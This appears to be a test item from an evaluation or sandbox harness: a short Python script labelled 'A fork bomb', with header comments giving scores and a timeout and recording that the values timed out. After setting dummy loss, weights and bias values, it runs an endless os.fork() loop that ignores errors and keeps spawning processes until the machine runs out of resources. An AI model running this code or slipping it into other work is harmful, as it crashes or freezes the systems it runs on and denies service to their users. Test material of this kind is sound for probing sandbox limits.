"""A fork bomb."""
# scores: loss 0, weights 0, bias 0, function 3, honest 1
# not run on stock: it would fill the machine with processes
# needs: timeout 3
# faults: values timed out
# %% values
loss, weights, bias = 9.0, np.zeros(3), np.zeros(2)
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
